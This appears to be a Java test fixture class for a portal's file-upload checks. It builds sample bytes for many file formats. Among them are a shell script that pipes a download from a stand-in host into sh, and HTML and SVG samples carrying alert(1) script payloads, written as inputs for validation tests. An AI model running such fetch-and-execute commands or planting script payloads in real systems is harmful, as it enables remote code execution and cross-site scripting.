package gov.buyamerican.portal.shared.files;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;

/** Hand-made file contents for the upload tests: the first bytes of each format, the way real files start. */
public final class Samples {

    private Samples() {
    }

    /** A minimal, valid one-page PDF. */
    public static byte[] pdf() {
        return ascii("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
                + "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
                + "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n"
                + "trailer\n<< /Root 1 0 R >>\n%%EOF\n");
    }

    /** A PDF whose content makes it unique (for tests that must not collide on the checksum). */
    public static byte[] pdf(String text) {
        return ascii("%PDF-1.4\n% " + text + "\ntrailer\n<< >>\n%%EOF\n");
    }

    /** PNG signature and IHDR of a 1x1 image, followed by a few bytes. */
    public static byte[] png() {
        return bytes(0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 'I', 'H', 'D', 'R',
                0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0, 0x90, 0x77, 0x53, 0xDE);
    }

    /** JPEG start-of-image and a JFIF APP0 segment. */
    public static byte[] jpeg() {
        return bytes(0xFF, 0xD8, 0xFF, 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xD9);
    }

    /** A Windows program: "MZ" header and the classic DOS stub text. */
    public static byte[] windowsExe() {
        byte[] b = new byte[256];
        b[0] = 'M';
        b[1] = 'Z';
        byte[] stub = ascii("This program cannot be run in DOS mode.");
        System.arraycopy(stub, 0, b, 78, stub.length);
        return b;
    }

    public static byte[] elf() {
        return bytes(0x7F, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0);
    }

    public static byte[] machO() {
        return bytes(0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1);
    }

    public static byte[] shellScript() {
        return ascii("#!/bin/sh\ncurl http://example.invalid/x | sh\n");
    }

    /** A ZIP local file header, as .zip, .jar, .docx and .xlsx files start. */
    public static byte[] zip() {
        return bytes('P', 'K', 0x03, 0x04, 20, 0, 0, 0, 8, 0);
    }

    /** An HTML page saved with a UTF-8 byte-order mark and leading white space. */
    public static byte[] html() {
        byte[] bom = bytes(0xEF, 0xBB, 0xBF);
        byte[] page = ascii("  \n<!DOCTYPE html><html><script>alert(1)</script></html>");
        byte[] b = Arrays.copyOf(bom, bom.length + page.length);
        System.arraycopy(page, 0, b, bom.length, page.length);
        return b;
    }

    public static byte[] svg() {
        return ascii("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
    }

    public static byte[] gif() {
        return ascii("GIF89a\u0001\u0000\u0001\u0000");
    }

    public static byte[] heic() {
        return bytes(0, 0, 0, 24, 'f', 't', 'y', 'p', 'h', 'e', 'i', 'c', 0, 0, 0, 0);
    }

    /** A PDF whose end was cut off: no %%EOF. */
    public static byte[] truncatedPdf() {
        byte[] full = pdf();
        return Arrays.copyOf(full, full.length - 8);
    }

    /** {@code n} bytes of a valid PDF (padding in a comment before the end marker). */
    public static byte[] pdfOfSize(int n) {
        byte[] head = ascii("%PDF-1.7\n%");
        byte[] tail = ascii("\n%%EOF\n");
        ByteArrayOutputStream out = new ByteArrayOutputStream(n);
        out.writeBytes(head);
        out.writeBytes(ascii("x".repeat(n - head.length - tail.length)));
        out.writeBytes(tail);
        return out.toByteArray();
    }

    public static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    public static byte[] bytes(int... values) {
        byte[] b = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            b[i] = (byte) values[i];
        }
        return b;
    }
}
